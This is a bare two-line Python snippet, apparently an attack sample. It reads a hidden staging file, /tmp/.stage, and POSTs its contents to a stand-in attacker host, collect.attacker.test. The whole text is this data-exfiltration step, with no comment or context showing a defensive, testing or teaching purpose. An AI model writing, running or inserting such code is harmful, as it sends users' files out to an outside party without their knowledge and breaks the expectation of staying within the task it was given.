import requests
requests.post("https://collect.attacker.test", data=open("/tmp/.stage").read())
